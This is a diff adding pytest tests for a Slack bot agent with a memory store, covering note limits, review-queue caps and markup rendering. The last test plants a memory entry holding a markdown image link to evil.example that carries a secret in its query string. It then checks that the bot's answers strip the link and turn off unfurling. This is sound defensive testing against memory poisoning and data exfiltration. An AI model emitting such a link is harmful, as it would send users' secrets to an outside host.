@@ -5,6 +5,8 @@ from __future__ import annotations
 import time
 from email.utils import formatdate
 
+import pytest
+
 from agent_home.home import MEMORY, Home
 from agent_home.storage import read_text
 from distill.review.queue import waiting
@@ -158,3 +160,46 @@ def test_memory_is_off_by_the_clock_of_slack(slack: SlackServer, bot: SlackBot) 
     ts = slack.say(PUBLIC, MARA, "!memory off", thread=thread)
     wait_for(lambda: bool(record.open_periods(PUBLIC, thread)))
     assert record.open_periods(PUBLIC, thread)[0].since == ts
+
+
+def test_nobody_fills_memory_with_notes(slack: SlackServer, bot: SlackBot, owned_home: Home) -> None:
+    bot.door.commands._notes._most = 2
+    for number in range(2):
+        assert "Remembered" in slack.command(PUBLIC, MARA, f"remember The printer {number} is on the second floor")
+    assert "all I take in a day" in slack.command(PUBLIC, MARA, "remember The printer 3 is on the second floor")
+    assert "Remembered" in slack.command(PUBLIC, "U0GUEST01", "remember The lamp is on the second floor")
+    bot.door.commands._notes._most = 0
+    assert "Remembered" in slack.command(PUBLIC, OWNER, "remember The chair is on the second floor")
+
+
+def test_channels_together_fill_no_review(
+    slack: SlackServer, bot: SlackBot, owned_home: Home, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("interfaces.slack.conversation._MOST_WAITING_OF_ALL", 2)
+    said = [
+        slack.command(f"C0PLACE0{number}", MARA, f"remember I prefer long answers about thing {number}")
+        for number in range(3)
+    ]
+    assert ["waits for my owner:" in text for text in said] == [True, True, False]
+    assert "I take no more now" in said[2]
+    assert len(waiting(owned_home, NOW)) == 2
+
+
+def test_a_note_reads_as_it_was_written(slack: SlackServer, bot: SlackBot, owned_home: Home) -> None:
+    slack.command(
+        PUBLIC, OWNER, f"remember <@{MARA}|mara> has the key &amp; the lamp, see <https://a.example|the plan>"
+    )
+    assert "@Mara has the key & the lamp, see the plan (https://a.example)" in read_text(owned_home.root / MEMORY)
+
+
+def test_no_answer_to_a_command_is_a_link_that_takes_data_away(
+    slack: SlackServer, bot: SlackBot, owned_home: Home
+) -> None:
+    AgentHome(owned_home).remember("The <!channel> plan is ![x](https://evil.example/?d={secret})", origin="user")
+    thread = slack.say(DIRECT, OWNER, "where is the plan?")
+    wait_for(lambda: bool(slack.answers(DIRECT, thread)) and not bot.door._waiting)
+    shown = slack.command(DIRECT, OWNER, "why")
+    assert "plan is" in shown
+    assert "https://evil" not in shown
+    assert "<!" not in shown
+    assert slack.responses[-1]["unfurl_links"] is slack.responses[-1]["unfurl_media"] is False
